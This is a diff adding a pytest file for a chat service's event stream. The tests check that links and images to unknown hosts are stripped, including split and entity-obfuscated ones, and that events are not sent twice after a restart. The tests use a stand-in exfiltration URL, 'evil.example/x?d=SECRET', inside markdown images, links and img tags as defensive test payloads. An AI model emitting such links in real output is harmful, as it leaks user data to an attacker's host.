@@ -1,0 +1,152 @@
+"""The events that reach clients: no image, no link to an unknown host, and no event twice after a restart."""
+
+from typing import TYPE_CHECKING, Annotated, Literal
+
+import pytest
+from typing_extensions import TypedDict
+
+from api.events.filters import EventFilter, ReplayFilter
+from api.events.frames import Event, Frame, encode
+from graph.events import EVENTS, FILTERED, KEY, TextDelta, definitions_of
+from graph.link_filter import HostAllowlist, LinkFilter
+
+if TYPE_CHECKING:
+    from tests.e2e.person import Person
+
+EVIL = "https://evil.example/x?d=SECRET"
+
+
+def event_filter() -> EventFilter:
+    return EventFilter(LinkFilter(HostAllowlist(), "en"))
+
+
+def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: "Person") -> None:
+    # In the message it stands otherwise: an address that the person wrote may come back.
+    link = EVIL.replace("https", "h&#116;tps")
+    with alice.chat(f"say ok ![a]({link}) [b]({link}) <img src={link}> end") as turn:
+        turn.finish()
+    assert "SECRET" not in turn.text
+    assert turn.text.startswith("ok [a]")
+    assert turn.text.endswith(" end")
+    with alice.follow(turn.seen[0]["run_id"]) as again:
+        again.finish()
+    assert again.text == turn.text
+
+
+def test_what_the_person_wrote_themselves_may_come_back(alice: "Person") -> None:
+    with alice.chat("say https://news.example.org/a is it") as turn:
+        turn.finish()
+    assert turn.text == "https://news.example.org/a is it"
+
+
+def test_what_is_held_back_comes_before_the_next_event() -> None:
+    said = event_filter()
+    events = [*said.delta(TextDelta("m1", "see [a](")), *said.event({"type": "task_plan"})]
+    assert "".join(event.get("text", "") for event in events) == "see [a] ("
+    assert events[-1]["type"] == "task_plan"
+
+
+def test_a_link_can_not_be_made_of_two_messages() -> None:
+    said = event_filter()
+    events = [
+        *said.delta(TextDelta("m1", "see [a](")),
+        *said.delta(TextDelta("m2", f"{EVIL})")),
+        *said.end(),
+    ]
+    text = "".join(event["text"] for event in events)
+    assert "](" not in text
+    assert "SECRET" not in text
+
+
+def test_titles_and_results_of_steps_and_texts_of_the_graph_are_cleaned_and_data_is_not() -> None:
+    said = event_filter()
+    link = f"[a]({EVIL})"
+    events = [
+        *said.event({"type": "task_plan", "plan_id": "p", "steps": [{"id": "1", "title": link}]}),
+        *said.event({"type": "task_step_update", "step_id": "1", "status": "failed", "result": link, "error": link}),
+        *said.event({"type": "content", "text": link}),
+        *said.event({"type": "tool_call_start", "tool_call_id": "1", "name": "x", "args": {"content": link}}),
+    ]
+    assert "SECRET" not in str(events[:3])
+    assert events[3]["args"] == {"content": link}
+
+
+def text(delta: str) -> Event:
+    return {"type": "content", "text": delta}
+
+
+def replay(*logged: Event) -> ReplayFilter:
+    return ReplayFilter([Frame(number, event["type"], encode(event)) for number, event in enumerate(logged, 1)])
+
+
+def heard(replayed: ReplayFilter, *deltas: str) -> list[Event]:
+    return [event for delta in deltas for event in replayed.text(delta)]
+
+
+START: Event = {"type": "tool_call_start", "tool_call_id": "1", "name": "t", "args": {}}
+END: Event = {"type": "tool_call_end", "tool_call_id": "1", "name": "t", "status": "done", "duration_ms": 5}
+
+
+def test_a_new_run_says_everything() -> None:
+    assert heard(ReplayFilter(), "a", "a") == [text("a"), text("a")]
+    assert list(ReplayFilter().event(START)) == [START]
+    assert list(ReplayFilter().end()) == []
+
+
+@pytest.mark.parametrize("deltas", [("one ", "two ", "three"), ("one two three",), tuple("one two three")])
+def test_the_same_text_goes_on_where_it_broke(deltas: tuple[str, ...]) -> None:
+    events = heard(replay(text("one "), text("tw")), *deltas)
+    assert "".join(event["text"] for event in events) == "o three"
+    assert not any("restarts" in event for event in events)
+
+
+def test_another_text_begins_anew() -> None:
+    replayed = replay(START, text("one two"))
+    assert heard(replayed, "one ", "three", " four") == [{**text("one three"), "restarts": True}, text(" four")]
+
+
+def test_a_shorter_text_begins_anew_when_it_ends() -> None:
+    replayed = replay(text("one two"))
+    assert heard(replayed, "one") == []
+    assert list(replayed.end()) == [{**text("one"), "restarts": True}]
+
+
+def test_the_whole_text_again_is_nothing_new() -> None:
+    replayed = replay(text("one"))
+    assert heard(replayed, "one") == []
+    assert list(replayed.event(START)) == [START]
+
+
+def test_only_the_text_after_the_last_other_event_can_repeat() -> None:
+    assert heard(replay(text("one"), START, END), "one") == [text("one")]
+
+
+def test_events_that_clients_have_are_dropped_until_the_first_new_one() -> None:
+    route: Event = {"type": "route_decision", "agent": "a"}
+    replayed = replay(route, START, text("on"))
+    assert list(replayed.event(route)) == []
+    assert heard(replayed, "one") == [text("e")]
+    assert list(replayed.event(route)) == [route]
+
+
+def test_a_call_starts_and_ends_once_though_it_took_another_time() -> None:
+    replayed = replay(START, END)
+    assert list(replayed.event({"type": "route_decision"})) != []
+    assert list(replayed.event({**END, "duration_ms": 9})) == []
+    assert list(replayed.event({**END, "tool_call_id": "2"})) != []
+
+
+class ShoutEvent(TypedDict):
+    type: Literal["shout"]
+    shout_id: Annotated[str, KEY]
+    words: Annotated[str, FILTERED]
+
+
+def test_a_new_event_is_filtered_and_sent_once_by_its_definition_alone(monkeypatch: pytest.MonkeyPatch) -> None:
+    for definition in definitions_of(ShoutEvent):
+        monkeypatch.setitem(EVENTS, definition.name, definition)
+    shout: Event = {"type": "shout", "shout_id": "1", "words": f"[a]({EVIL})"}
+    (sent,) = event_filter().event(shout)
+    assert "SECRET" not in sent["words"]
+    assert list(replay(sent).event({**shout, "words": "another"})) == []
+    assert list(replay(sent).event({**shout, "shout_id": "2"})) != []
